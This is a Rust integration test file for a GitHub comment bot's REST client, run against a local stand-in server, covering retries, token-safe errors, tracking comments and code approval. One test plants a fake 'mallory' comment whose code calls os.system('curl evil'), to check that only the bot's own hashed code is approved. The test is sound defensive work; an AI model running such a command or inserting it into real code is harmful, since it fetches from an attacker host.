//! The real `GitHub` client (octocrab) against the stateful loopback stand-in.

use std::time::Duration;

use crate::support::github_standin::{DEFAULT_APP_LOGIN, GitHubStandIn};
use compute_bot::github::actions::event::{RepoRef, Secret};
use compute_bot::github::rest::client::GitHub;
use compute_bot::github::rest::comments::Reaction;
use compute_bot::policy::Permission;

const REPO: &str = "octo-org/data";
const TOKEN: &str = "ghs_test_token_0123456789";

async fn setup() -> (GitHubStandIn, GitHub) {
    let gh = GitHubStandIn::start().await;
    gh.add_repo(REPO);
    gh.add_issue(REPO, 7);
    gh.add_pull_request(REPO, 8);
    gh.require_token(TOKEN);
    let client = GitHub::new(
        &gh.uri(),
        &Secret::new(TOKEN),
        RepoRef::parse(REPO, "test").unwrap(),
    )
    .unwrap()
    .with_retry(3, Duration::from_millis(10));
    (gh, client)
}

#[tokio::test]
async fn create_read_back_and_edit() {
    let (gh, client) = setup().await;
    let id = client
        .create_comment(7, "working <!-- m -->")
        .await
        .unwrap();
    assert_eq!(client.get_comment(id).await.unwrap(), "working <!-- m -->");
    client.update_comment(id, "done\n| a |").await.unwrap();
    let stored = gh.comment(id).unwrap();
    assert_eq!(stored.body, "done\n| a |");
    assert_eq!(stored.edits, 1);
    assert_eq!(stored.author, DEFAULT_APP_LOGIN);
    assert_eq!(gh.comments(REPO, 7).len(), 1);
    // PR comments go through the issues endpoint too.
    let pr = client.create_comment(8, "on a PR").await.unwrap();
    assert_eq!(gh.comments(REPO, 8)[0].id, pr);
    // The token was sent as a bearer token on every request.
    assert!(
        gh.requests()
            .iter()
            .all(|r| r.authorization.as_deref() == Some(&format!("Bearer {TOKEN}")))
    );
}

#[tokio::test]
async fn reactions_are_stored() {
    let (gh, client) = setup().await;
    let id = gh.seed_comment(REPO, 7, "alice", "/compute mean");
    client.add_reaction(id, Reaction::Eyes).await.unwrap();
    client.add_reaction(id, Reaction::Rocket).await.unwrap();
    client.add_reaction(id, Reaction::Eyes).await.unwrap(); // idempotent on GitHub
    client.add_reaction(id, Reaction::MinusOne).await.unwrap();
    assert_eq!(gh.reactions(id), vec!["eyes", "rocket", "-1"]);
}

#[tokio::test]
async fn permission_parsing_for_all_six_values() {
    let (gh, client) = setup().await;
    for p in Permission::ALL {
        let login = format!("user-{p}");
        gh.set_permission(REPO, &login, p.as_str());
        assert_eq!(client.permission(&login).await.unwrap(), p, "{login}");
    }
    // A user GitHub knows without any role: none.
    gh.add_user("stranger", "User");
    assert_eq!(
        client.permission("stranger").await.unwrap(),
        Permission::None
    );
    // Bot logins are encoded in the path.
    gh.set_permission(REPO, "helper[bot]", "write");
    assert_eq!(
        client.permission("helper[bot]").await.unwrap(),
        Permission::Write
    );
}

#[tokio::test]
async fn server_errors_are_retried_then_succeed() {
    let (gh, client) = setup().await;
    gh.fail_next(Some("POST"), "/issues/7/comments", 502, 2);
    let id = client.create_comment(7, "after two 502s").await.unwrap();
    assert_eq!(gh.comment(id).unwrap().body, "after two 502s");
    assert_eq!(gh.count("POST", "/issues/7/comments"), 3);
    assert_eq!(gh.comments(REPO, 7).len(), 1);
}

#[tokio::test]
async fn retries_are_bounded() {
    let (gh, client) = setup().await;
    gh.fail_next(None, "/permission", 500, 10);
    let err = client
        .permission(REPO.split('/').next().unwrap())
        .await
        .unwrap_err();
    assert_eq!(err.status(), Some(500));
    assert_eq!(gh.count("GET", "/permission"), 3);
}

#[tokio::test]
async fn forbidden_names_the_permission_and_is_not_retried() {
    let (gh, client) = setup().await;
    gh.fail_next(Some("POST"), "/issues/7/comments", 403, 5);
    let err = client.create_comment(7, "x").await.unwrap_err();
    let msg = err.to_string();
    assert_eq!(err.status(), Some(403));
    assert!(msg.contains("issues: write"), "{msg}");
    assert!(msg.contains("pull-requests: write"), "{msg}");
    assert!(
        msg.contains("Resource not accessible by integration"),
        "{msg}"
    );
    assert!(!msg.contains(TOKEN), "{msg}");
    assert_eq!(gh.count("POST", "/issues/7/comments"), 1);
}

#[tokio::test]
async fn missing_issue_is_a_clear_404() {
    let (_gh, client) = setup().await;
    let err = client.create_comment(999, "x").await.unwrap_err();
    assert_eq!(err.status(), Some(404));
    assert!(err.to_string().contains("#999"), "{err}");
}

#[tokio::test]
async fn bad_token_is_401_with_a_hint_and_no_token() {
    let gh = GitHubStandIn::start().await;
    gh.add_repo(REPO);
    gh.add_issue(REPO, 7);
    gh.require_token(TOKEN);
    let wrong = "ghs_wrong_secret_value";
    let client = GitHub::new(
        &gh.uri(),
        &Secret::new(wrong),
        RepoRef::parse(REPO, "t").unwrap(),
    )
    .unwrap()
    .with_retry(3, Duration::from_millis(10));
    let err = client.create_comment(7, "x").await.unwrap_err().to_string();
    assert!(err.contains("github_token"), "{err}");
    assert!(!err.contains(wrong), "{err}");
    assert!(!format!("{client:?}").contains(wrong));
}

#[tokio::test]
async fn connection_errors_are_retried_and_reported() {
    // A port nothing listens on.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    drop(listener);
    let client = GitHub::new(
        &format!("http://127.0.0.1:{port}"),
        &Secret::new(TOKEN),
        RepoRef::parse(REPO, "t").unwrap(),
    )
    .unwrap()
    .with_retry(3, Duration::from_millis(5));
    let err = client.create_comment(7, "x").await.unwrap_err().to_string();
    assert!(err.contains("after 3 tries"), "{err}");
    assert!(err.contains(&port.to_string()), "{err}");
    assert!(!err.contains(TOKEN), "{err}");
}

#[tokio::test]
async fn list_paginates_and_tracking_comment_is_the_bots_own() {
    let (gh, client) = setup().await;
    gh.set_max_per_page(2);
    gh.seed_comment(REPO, 7, "alice", "/compute x");
    // A user cannot plant the marker.
    gh.seed_comment(REPO, 7, "mallory", "fake <!-- compute-bot:run=99 -->");
    let mine = client
        .create_comment(7, "tracking <!-- compute-bot:run=99 -->")
        .await
        .unwrap();
    for i in 0..3 {
        gh.seed_comment(REPO, 7, "bob", &format!("noise {i}"));
    }
    let all = client.list_comments(7).await.unwrap();
    assert_eq!(all.len(), 6);
    assert_eq!(all[0].body, "/compute x");
    assert_eq!(all[5].body, "noise 2");
    assert!(gh.count("GET", "/issues/7/comments") >= 3);
    let found = client
        .find_tracking_comment(7, "<!-- compute-bot:run=99 -->")
        .await
        .unwrap();
    assert_eq!(found.map(|f| f.0), Some(mine));
    assert!(
        client
            .find_tracking_comment(7, "<!-- compute-bot:run=100 -->")
            .await
            .unwrap()
            .is_none()
    );
}

#[tokio::test]
async fn rerun_edits_its_own_tracking_comment() {
    let (gh, client) = setup().await;
    let marker = compute_bot::github::texts::run_marker("6001");
    let first = client
        .upsert_tracking_comment(7, &marker, &format!("{marker}\nplanning"))
        .await
        .unwrap();
    let again = client
        .upsert_tracking_comment(7, &marker, &format!("{marker}\nresult"))
        .await
        .unwrap();
    assert_eq!(first, again);
    let comments = gh.comments(REPO, 7);
    assert_eq!(comments.len(), 1);
    assert!(comments[0].body.ends_with("result"));
    assert_eq!(comments[0].edits, 1);
}

#[tokio::test]
async fn enterprise_server_api_root_with_a_path_works() {
    let (gh, _) = setup().await;
    let client = GitHub::new(
        &format!("{}/api/v3/", gh.uri()),
        &Secret::new(TOKEN),
        RepoRef::parse(REPO, "t").unwrap(),
    )
    .unwrap();
    let id = client.create_comment(7, "on GHES").await.unwrap();
    assert_eq!(client.get_comment(id).await.unwrap(), "on GHES");
    assert!(
        gh.requests()
            .iter()
            .all(|r| r.path.starts_with("/api/v3/repos/octo-org/data/"))
    );
}

fn needs_approval_report(code: &str) -> compute_bot::report::Report {
    use compute_bot::policy::{Finding, Severity, Verdict};
    use compute_bot::report::{Attempt, Report, ReportStatus};
    let sha = compute_bot::github::texts::sha256_hex(code);
    Report {
        goal: Some("fetch the rates".into()),
        plan: None,
        status: ReportStatus::NeedsApproval,
        stop_reason: Some("imports a module that needs approval".into()),
        result: None,
        explanation: None,
        attempts: vec![Attempt {
            number: 1,
            code: code.into(),
            code_sha256: sha.clone(),
            ..Attempt::default()
        }],
        code: Some(code.into()),
        code_sha256: Some(sha),
        verdict: Some(Verdict::from_findings(vec![Finding {
            rule: "import-escalate".into(),
            severity: Severity::Escalate,
            message: "`socket` needs approval".into(),
            line: 1,
            column: 1,
            snippet: "import socket".into(),
        }])),
        outcome: None,
        inputs: vec![],
        policy: None,
        usage: Default::default(),
        model_requests: 0,
        prices: None,
        cost_usd: None,
        timings_ms: Default::default(),
        steps: Vec::new(),
        continued: None,
        replayed: Vec::new(),
        record: None,
    }
}

#[tokio::test]
async fn approval_reads_back_exactly_the_shown_code_from_the_bots_comment() {
    use compute_bot::github::texts::{PendingError, approval_for, read_pending, run_marker};
    use compute_bot::render::{RenderContext, markdown};
    let (gh, client) = setup().await;
    let code = "import socket\nprint('```')\n";
    let marker = run_marker("6001");
    let shown = needs_approval_report(code);
    let body = markdown(
        &shown,
        &RenderContext {
            run_url: None,
            marker: Some(marker.clone()),
            command: None,
            approval: approval_for(&shown, "/compute"),
            files: None,
        },
    );
    let bot_comment = client.create_comment(7, &body).await.unwrap();
    // Someone plants a fake pending comment with other code afterwards.
    let evil = "import os\nos.system('curl evil')\n";
    let fake = needs_approval_report(evil);
    gh.seed_comment(
        REPO,
        7,
        "mallory",
        &markdown(
            &fake,
            &RenderContext {
                approval: approval_for(&fake, "/compute"),
                ..RenderContext::default()
            },
        ),
    );
    gh.seed_comment(REPO, 7, "maint", "/compute approve");

    let (id, text) = client
        .find_tracking_comment(7, "<!-- compute-bot:pending sha256=")
        .await
        .unwrap()
        .unwrap();
    assert_eq!(id, bot_comment);
    let pending = read_pending(&text).unwrap();
    assert_eq!(pending.code, code);

    // If the bot's comment is edited, the hash no longer matches.
    let tampered = text.replace("print('```')", "print('pwned')");
    client.update_comment(id, &tampered).await.unwrap();
    let text = client.get_comment(id).await.unwrap();
    assert!(matches!(
        read_pending(&text),
        Err(PendingError::Mismatch { .. })
    ));
}

#[tokio::test]
async fn stand_in_event_payloads_parse_as_triggers() {
    use compute_bot::github::actions::event::{ActionEnv, Trigger};
    let (gh, _) = setup().await;
    gh.set_permission(REPO, "alice", "write");
    let id = gh.seed_comment(REPO, 8, "alice", "/compute count rows\r\n");
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("event.json");
    std::fs::write(&path, gh.issue_comment_event(id, "edited").to_string()).unwrap();
    let vars = [
        ("GITHUB_EVENT_NAME", "issue_comment".to_string()),
        ("GITHUB_EVENT_PATH", path.display().to_string()),
        ("GITHUB_REPOSITORY", REPO.to_string()),
        ("GITHUB_RUN_ID", "1".to_string()),
        ("GITHUB_WORKSPACE", dir.path().display().to_string()),
        ("GITHUB_API_URL", gh.uri()),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_string(), v))
    .collect();
    let t = Trigger::from_env(&ActionEnv::from_map(&vars).unwrap()).unwrap();
    assert_eq!(
        t,
        Trigger::Comment {
            repo: RepoRef::parse(REPO, "t").unwrap(),
            issue_number: 8,
            is_pull_request: true,
            comment_id: id,
            author_login: "alice".into(),
            author_is_bot: false,
            body: "/compute count rows\r\n".into(),
            edited: true,
        }
    );
}

#[tokio::test]
async fn tracker_creates_once_edits_through_stages_and_finishes() {
    use compute_bot::github::texts::{Step, run_marker};
    use compute_bot::github::tracking::Tracker;
    let (gh, client) = setup().await;
    let marker = run_marker("777");
    let run_url = Some("https://github.com/octo-org/data/actions/runs/777".to_string());
    let mut t = Tracker::new(&client, 7, marker.clone(), run_url.clone());
    let id = t.acknowledge().await.unwrap();
    // The tracking comment, starting.
    crate::support::action_fixture::snapshot_comment(
        "tracking_acknowledged",
        &gh.comment(id).unwrap().body,
    );
    for stage in [Step::Planning, Step::Generating, Step::Running] {
        assert_eq!(t.stage(stage, 1, 3).await.unwrap(), id);
    }
    assert!(
        gh.comment(id)
            .unwrap()
            .body
            .contains("**→** running in the sandbox")
    );
    t.finish("final result").await.unwrap();
    let c = gh.comment(id).unwrap();
    assert_eq!(c.body, format!("{marker}\nfinal result"));
    assert_eq!(c.edits, 4);
    assert_eq!(gh.comments(REPO, 7).len(), 1);
    // Only one list request (the first write looked for an earlier comment).
    assert_eq!(gh.count("GET", "/issues/7/comments"), 1);

    // A re-run of the same workflow run finds and edits the same comment.
    let mut again = Tracker::new(&client, 7, marker, run_url);
    assert_eq!(again.acknowledge().await.unwrap(), id);
    assert_eq!(gh.comments(REPO, 7).len(), 1);
}
